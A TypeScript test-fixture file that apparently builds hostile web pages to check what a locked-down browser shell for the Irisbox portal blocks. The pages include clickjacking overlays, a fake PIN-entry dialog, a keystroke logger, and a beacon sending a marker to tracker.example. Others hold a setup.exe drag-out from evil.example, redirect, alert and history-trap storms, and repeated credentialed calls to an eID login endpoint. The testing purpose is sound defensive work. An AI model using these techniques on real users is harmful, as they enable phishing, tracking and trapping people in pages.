import { FIELD_TRICKS } from './tricks-fields.ts';

/** Tricks that need nothing of the server: the body of a page each. What came of it stands in `#said`, when it can be said. */
const said = `<output id="said"></output><script>const say=x=>{const o=document.getElementById('said');o.textContent=(o.textContent?o.textContent+' ':'')+x}</script>`;
const go = (label: string, code: string) =>
  `${said}<button id="go">${label}</button><script>document.getElementById('go').onclick=async()=>{${code}}</script>`;
const ask = (call: string) => `try{await (${call});say('granted')}catch(e){say('refused')}`;

export const CLIENT_TRICKS: Readonly<Record<string, string>> = {
  ...FIELD_TRICKS,
  /** A page that does nothing. */
  page: '<p>rien</p><a id="go" href="/irisbox/home">retour</a>',
  alert: go('alert', `alert('un piège');say('after')`),
  confirm: go('confirm', `say(String(confirm('oui ?')))`),
  prompt: go('prompt', `say(String(prompt('Votre code PIN ?')))`),
  'alert-storm': `${said}<script>let n=0;const again=()=>{if(n++<40){alert('encore '+n);setTimeout(again,0)}else say('over')};setTimeout(again,100)</script>`,
  beforeunload: `<p>Vous ne partirez pas.</p><a id="go" href="/irisbox/home">partir</a><input id="touch"><script>addEventListener('beforeunload',e=>{e.preventDefault();e.returnValue='non'})</script>`,
  unload: `<a id="go" href="/irisbox/home">partir</a><script>for(const n of ['pagehide','unload','visibilitychange'])addEventListener(n,()=>{location.href='https://evil.example/unload';open('https://evil.example/unload')})</script>`,
  print: go('print', `print();say('after')`),
  'print-self': `${said}<script>setTimeout(()=>{print();say('after')},100)</script>`,
  'print-command': go('print', `document.execCommand('print');say('after')`),
  'print-frame': go(
    'print',
    `const f=document.createElement('iframe');document.body.append(f);f.contentWindow.print();say('after')`,
  ),
  'print-window': go('print', `const w=open('about:blank');try{w.print()}catch{}say('after')`),
  'print-srcdoc': `${said}<iframe srcdoc="<script>print()</script>"></iframe><script>setTimeout(()=>say('after'),200)</script>`,
  'print-prototype': go(
    'print',
    `delete window.print;try{print()}catch{}try{Object.getPrototypeOf(window).print.call(window)}catch{}say('after')`,
  ),
  fullscreen: go('fullscreen', ask('document.documentElement.requestFullscreen()')),
  'pointer-lock': go('pointer lock', ask('document.body.requestPointerLock()')),
  'keyboard-lock': go('keyboard lock', ask('navigator.keyboard.lock()')),
  'clipboard-read': go('clipboard', ask(`navigator.clipboard.readText().then(t=>{say('['+t+']')})`)),
  'clipboard-write': go('clipboard', ask(`navigator.clipboard.writeText('MARK-IN-CLIPBOARD')`)),
  notification: go('notification', `const p=await Notification.requestPermission();say(p==='granted'?'granted':'refused')`),
  geolocation: go('where', ask('new Promise((y,n)=>navigator.geolocation.getCurrentPosition(y,n))')),
  camera: go('camera', ask('navigator.mediaDevices.getUserMedia({video:true,audio:true})')),
  screen: go('screen', ask('navigator.mediaDevices.getDisplayMedia({video:true})')),
  usb: go('usb', ask('navigator.usb.requestDevice({filters:[]})')),
  hid: go('hid', ask(`navigator.hid.requestDevice({filters:[]}).then(l=>{if(!l.length)throw 0})`)),
  serial: go('serial', ask('navigator.serial.requestPort()')),
  bluetooth: go('bluetooth', ask('navigator.bluetooth.requestDevice({acceptAllDevices:true})')),
  midi: go('midi', ask('navigator.requestMIDIAccess({sysex:true})')),
  idle: go('idle', `const p=await IdleDetector.requestPermission();say(p==='granted'?'granted':'refused')`),
  fonts: go('fonts', ask(`queryLocalFonts().then(l=>{if(!l.length)throw 0})`)),
  files: go('files', ask('showOpenFilePicker()')),
  folder: go('folder', ask('showDirectoryPicker()')),
  save: go('save', ask('showSaveFilePicker()')),
  screens: go('screens', ask('getScreenDetails()')),
  'wake-lock': go('wake lock', ask(`navigator.wakeLock.request('screen')`)),
  share: go('share', ask(`navigator.share({title:'x',url:'https://evil.example/'})`)),
  payment: go(
    'payment',
    ask(
      `new PaymentRequest([{supportedMethods:'https://evil.example/pay'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).show()`,
    ),
  ),
  credential: go('credential', ask(`navigator.credentials.get({password:true}).then(c=>{if(!c)throw 0})`)),
  passkey: go('passkey', ask(`navigator.credentials.get({publicKey:{challenge:new Uint8Array(32),timeout:1500}})`)),
  pip: go('picture in picture', ask('documentPictureInPicture.requestWindow()')),
  'pip-video': go(
    'picture in picture',
    ask(
      `(async()=>{const c=document.createElement('canvas');c.getContext('2d').fillRect(0,0,9,9);const v=document.createElement('video');v.muted=true;v.srcObject=c.captureStream(5);await v.play();await v.requestPictureInPicture()})()`,
    ),
  ),
  eyedropper: go('eye dropper', ask('new EyeDropper().open()')),
  'protocol-handler': go(
    'handler',
    `try{navigator.registerProtocolHandler('mailto','https://irisbox.irisnet.be/irisbox/tricks/page?u=%s')}catch{}location.href='mailto:x@example.be'`,
  ),
  storage: go('persist', `say(await navigator.storage.persist()?'granted':'refused')`),
  close: go('close', `window.close();say('still here')`),
  opener: `${said}<script>say(opener?'opener':'none');try{opener.location='https://evil.example/opener'}catch{}</script>`,
  resize: go('resize', `moveTo(0,0);resizeTo(100,100);say('after')`),
  upload:
    '<form method="post" action="/irisbox/tricks/page" enctype="multipart/form-data"><input id="go" type="file" name="proof"><button id="send">envoyer</button></form>',
  'upload-folder': '<input id="go" type="file" name="all" webkitdirectory>',
  drop: `${said}<div id="target" style="width:300px;height:120px;border:2px dashed">ici</div><a id="go" draggable="true" href="https://evil.example/dragged">tirer</a><script>const t=document.getElementById('target');t.ondragover=e=>e.preventDefault();t.ondrop=e=>{e.preventDefault();say('dropped '+e.dataTransfer.files.length)}</script>`,
  'drop-away': `<p>Cette page ne prend rien.</p><a id="go" draggable="true" href="https://evil.example/dragged">tirer</a>`,
  'drag-out': `<img id="go" alt="x" width="60" height="60" draggable="true" src="/irisbox/tricks/download?kind=png&inline=1"><script>document.getElementById('go').ondragstart=e=>e.dataTransfer.setData('DownloadURL','application/octet-stream:setup.exe:https://evil.example/setup.exe')</script>`,
  history: `<script>for(let i=0;i<200;i++)history.pushState({i},'','/irisbox/tricks/history?'+i);addEventListener('popstate',()=>{for(let i=0;i<20;i++)history.pushState({},'','/irisbox/tricks/history?again'+i)})</script><a id="go" href="/irisbox/home">partir</a>`,
  'back-trap': `<script>history.pushState({},'','');addEventListener('popstate',()=>history.forward())</script><p>piège</p>`,
  storm: `${said}<script>let n=0;const t=setInterval(()=>{if(n++>60){clearInterval(t);say('over')}else location.href='https://evil.example/storm?'+n},5)</script>`,
  'window-storm': `${said}<script>let n=0;const t=setInterval(()=>{if(n++>40){clearInterval(t);say('over')}else open('/irisbox/tricks/page?'+n)},5)</script>`,
  media:
    '<audio id="go" controls loop></audio><script>navigator.mediaSession.setActionHandler("play",()=>{location.href="https://evil.example/media"})</script>',
  context:
    '<p id="go">touchez longtemps</p><a id="link" href="https://evil.example/menu">lien</a><img id="image" alt="x" width="50" height="50">',
  keys: `${said}<p>touches</p><input id="go"><script>const keys=[];addEventListener('keydown',e=>{keys.push(e.key);document.getElementById('said').textContent=keys.join(' ')})</script>`,
  'blob-page': go('blob', `location.href=URL.createObjectURL(new Blob(['<h1 id=escaped>blob</h1>'],{type:'text/html'}))`),
  'blob-open': go('blob', `open(URL.createObjectURL(new Blob(['<h1 id=escaped>blob</h1>'],{type:'text/html'})))`),
  'blob-pdf': `<script>const pdf=fetch('/irisbox/tricks/download?kind=pdf').then(r=>r.blob())</script>${go('blob', `const a=document.createElement('a');a.href=URL.createObjectURL(await pdf);a.download='attestation.pdf';a.click()`)}`,
  'data-pdf': `<script>const pdf=fetch('/irisbox/tricks/download?kind=pdf').then(r=>r.blob()).then(b=>new Promise(y=>{const f=new FileReader();f.onload=()=>y(f.result);f.readAsDataURL(b)}))</script>${go('data', `const a=document.createElement('a');a.href=await pdf;a.download='attestation.pdf';a.click()`)}`,
  'blob-pdf-open': `<script>let pdf;fetch('/irisbox/tricks/download?kind=pdf').then(r=>r.blob()).then(b=>{pdf=b})</script>${go('blob', `open(URL.createObjectURL(pdf))`)}`,
  'blob-exe': go(
    'blob',
    `const a=document.createElement('a');a.href=URL.createObjectURL(new Blob(['MZ']));a.download='setup.exe';a.click()`,
  ),
  'written-window': go(
    'write',
    `const w=open('about:blank');if(w){w.document.write('<h1 id=escaped>written</h1>');say('opened')}else say('none')`,
  ),
  'document-write': go(
    'write',
    `document.open();document.write('<h1 id=written>faux</h1><a id=go href=https://evil.example/>x</a>');document.close()`,
  ),
  worker: `${said}<script>navigator.serviceWorker.register('/irisbox/tricks/worker.js',{scope:'/irisbox/tricks/'}).then(()=>navigator.serviceWorker.ready).then(()=>say('ready'),()=>say('none'))</script><a id="go" href="/irisbox/tricks/from-worker">aller</a>`,
  'worker-navigates': `<a id="go" href="/irisbox/tricks/worker-away?to=https://evil.example/worker">aller</a>`,
  webview: '<webview id="go" src="https://evil.example/webview" style="width:200px;height:100px"></webview>',
  objects:
    '<object data="https://evil.example/object" width="200"></object><embed src="https://evil.example/embed" width="200"><frameset><frame src="https://evil.example/frameset"></frameset>',
  beacon: `${said}<script>fetch('https://tracker.example/beacon',{method:'POST',mode:'no-cors',body:'MARK-IN-BEACON'}).then(()=>say('sent'),()=>say('refused'))</script>`,
  clickjack: `<style>#cover{position:fixed;inset:0;z-index:2147483647;opacity:.01}</style><a id="cover" href="https://evil.example/cover">x</a><button id="go">Oui</button>`,
  'fake-pin':
    '<dialog open style="position:fixed;inset:0;width:100%;height:100%"><h1>Votre code PIN</h1><input id="go" type="password" name="pin" inputmode="numeric" autocomplete="off"></dialog>',
  'log-in-storm': `${said}<script>let n=0;const t=setInterval(()=>{if(n++>10){clearInterval(t);say('over')}else fetch('https://certif.iamfas.belgium.be/fas/eid',{mode:'no-cors',credentials:'include'}).catch(()=>{})},20)</script>`,
  'log-in-frame': '<iframe id="frame" src="https://certif.iamfas.belgium.be/fas/eid" width="400" height="200"></iframe>',
  'log-in-image': '<img id="go" alt="x" src="https://certif.iamfas.belgium.be/fas/eid">',
  node: `${said}<script>say([typeof require,typeof process,typeof window.comptoir,typeof window.electron].join(','))</script>`,
};
